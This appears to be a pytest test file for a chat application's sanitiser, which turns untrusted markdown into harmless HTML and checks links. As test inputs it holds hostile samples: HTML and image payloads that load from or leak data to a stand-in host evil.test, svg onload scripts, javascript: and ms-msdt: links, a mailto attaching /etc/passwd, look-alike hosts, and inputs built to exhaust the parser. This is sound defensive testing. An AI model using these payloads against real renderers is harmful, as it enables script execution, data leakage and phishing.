"""Untrusted text to harmless pieces: catalogue U of the safety notes, without Qt."""

import re
import time

import pytest

from llama_runner.ui.widgets.links import check_link
from llama_runner.ui.widgets.safe_html import (
    BREAK,
    MAX_RICH_CHARS,
    MAX_RUN_CHARS,
    Rendered,
    clean_text,
    render_markdown,
    render_plain,
    too_deep,
)

# Rendering runs in a worker, not in the GUI thread: this bounds what a hostile message may cost there.
# Of processor time, several times slower while coverage is measured; unbounded input would take minutes.
RENDER_S = 20.0


def html_of(text: str) -> str:
    return "".join(piece.content for piece in render_markdown(text).pieces if piece.rich)


def shown(rendered: Rendered) -> str:
    """Everything a reader would see, tags and break marks taken away."""
    rich = (re.sub(r"<[^>]*>", "", p.content) if p.rich else p.content for p in rendered.pieces)
    return "".join(rich).replace(BREAK, "").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


def test_markdown_becomes_the_usual_elements() -> None:
    html = html_of(
        "# Title\n\nA **bold** [link](https://example.org/a).\n\n- one\n- two\n\n```py\nx < 1\n```\n"
    )
    for part in ("<h1>Title</h1>", "<strong>bold</strong>", '<a href="https://example.org/a">link</a>'):
        assert part in html
    assert "<li>one</li>" in html
    assert "<pre>x &lt; 1</pre>" in html


@pytest.mark.parametrize(
    "source",
    [
        '<img src="file:///etc/passwd">',
        "<img src=//host/share>",
        "<img src='data:image/png;base64,AAAA' width=1000000000>",
        '<link rel="stylesheet" href="http://evil.test/a.css">',
        "<style>@import url(http://evil.test)</style>",
        '<div style="background:url(http://evil.test)">x</div>',
        '<table background="http://evil.test"><tr><td>x</td></tr></table>',
        "<meta http-equiv=refresh content='0;url=http://evil.test'>",
        "<iframe src=http://evil.test></iframe>",
        "<svg onload=alert(1)><math><mi>x</mi></math></svg>",
        "<!-- comment --><![CDATA[x]]>",
        '<a href="https://a.test" title="unclosed',
    ],
)
def test_raw_html_is_shown_as_text_and_never_as_markup(source: str) -> None:
    """U1, U3, U4."""
    rendered = render_markdown(source)
    for piece in rendered.pieces:
        if piece.rich:
            assert set(re.findall(r"</?([a-z0-9]+)", piece.content)) <= {"p", "pre"}
    assert source.split(">")[0][:10] in shown(rendered)


@pytest.mark.parametrize(
    "source",
    [
        "![alt](http://evil.test/x.png?q=secret)",
        "[![alt](http://evil.test/x.png)](https://good.test)",
        "| a |\n|---|\n| ![alt](http://evil.test/x.png) |",
        "# ![alt](http://evil.test/x.png)",
        "![alt][r]\n\n[r]: http://evil.test/x.png",
    ],
)
def test_an_image_becomes_its_description_and_host(source: str) -> None:
    """U2."""
    html = html_of(source)
    assert "<img" not in html
    assert "[alt: evil.test]" in html
    assert "x.png" not in html


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "smb://host/share",
        "ms-msdt:/id",
        "vbscript:x",
        "data:text/html,x",
        "mailto:a@b.test?attach=/etc/passwd",
        "custom:x",
        "#x",
        "x.html",
        "",
        "//host/share",
        "http://good.test@evil.test",
        "http://user:pw@evil.test/",
        "https://exa mple.test",
        "java\tscript:alert(1)",
        "http://evil.test\\@good.test",
        "https://" + "a" * 5000 + ".test",
        "http://[::1",
        "http://host:99999/",
        "http:///path",
    ],
)
def test_a_link_that_is_not_plainly_a_web_page_is_not_a_link(url: str) -> None:
    """U9, U10, U12."""
    assert check_link(url) is None
    assert "href" not in html_of(f"[text](<{url}>)")


def test_a_look_alike_host_is_shown_in_ascii() -> None:
    """U10: Cyrillic letters that read as a well-known name."""
    link = check_link("https://аррӏе.com/login")
    assert link is not None
    assert link.host.startswith("xn--")
    assert link.url.isascii()


def test_good_links_stay() -> None:
    for url in ("https://example.org/a?b=c#d", "http://127.0.0.1:8080/", "mailto:a@example.org"):
        assert check_link(url) is not None
        assert "href" in html_of(f"[text]({url})")


@pytest.mark.parametrize(
    "text",
    [
        "<table><tr><td>" * 2000,
        ">" * 20_000 + " deep",
        "- " * 20_000 + "deep",
        "<div>" * 100_000,
        "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "b|" * 2000 + "\n") * 5,
        "<td colspan=100000000>x</td>",
        "x" * 1_000_000,
        "`" * 1_000_000,
        "*a " * 50_000,
        "[" * 20_000,
        "[" * 250_000,
        "![" * 125_000,
        "a|b\n-|-\n" * 30_000,
        "[a](" * 30_000,
        "a\u0301" * 50_000 + "\u0301" * 100_000,
        "😀" * 100_000,
        "a  \n" * 60_000,
        "***a" * 30_000,
    ],
    ids=lambda text: text[:12].encode("unicode_escape").decode(),
)
def test_hostile_text_is_rendered_in_bounded_time_into_small_pieces(text: str) -> None:
    """U5, U6, U7: nothing deep, wide or endless reaches Qt."""
    started_s = time.process_time()
    rendered = render_markdown(text)
    assert time.process_time() - started_s < RENDER_S
    for piece in rendered.pieces:
        assert len(piece.content) <= 256 * 1024
        longest = max((len(run) for run in re.split(rf"[\s{BREAK}<>&;]", piece.content)), default=0)
        assert longest <= 2 * MAX_RUN_CHARS
        assert not (piece.rich and too_deep(piece.content))


@pytest.mark.parametrize("text", ["[" * 20_001, "x [" * 20_001, "|" * 20_001])
def test_more_brackets_than_any_answer_has_are_not_parsed(text: str) -> None:
    """U6: the parser would take ten seconds for a message full of them."""
    rendered = render_markdown(text)
    assert rendered.downgraded
    assert not any(piece.rich for piece in rendered.pieces)


def test_a_table_of_too_many_cells_comes_as_plain_text() -> None:
    """U5."""
    rendered = render_markdown("|a|b|\n|-|-|\n" + "|x|y|\n" * 1500)
    assert rendered.downgraded
    assert not any(piece.rich for piece in rendered.pieces)


def test_what_is_beyond_the_cap_is_kept_for_later() -> None:
    text = "line of text\n" * (MAX_RICH_CHARS // 8)
    rendered = render_plain(text)
    assert "".join(piece.content for piece in rendered.pieces) + rendered.rest == text
    assert rendered.rest


def test_controls_are_made_visible_and_line_ends_are_kept() -> None:
    """U7, U8."""
    assert clean_text("a\r\nb\rc\x1b[31m\x00\u202egnp.exe") == "a\nb\nc␛[31m␀⟨U+202E⟩gnp.exe"
    assert clean_text("a\ud800b").encode()
    assert clean_text("plain text\twith tab\n") == "plain text\twith tab\n"
    assert len(clean_text("e" + "\u0301" * 100_000)) == 5
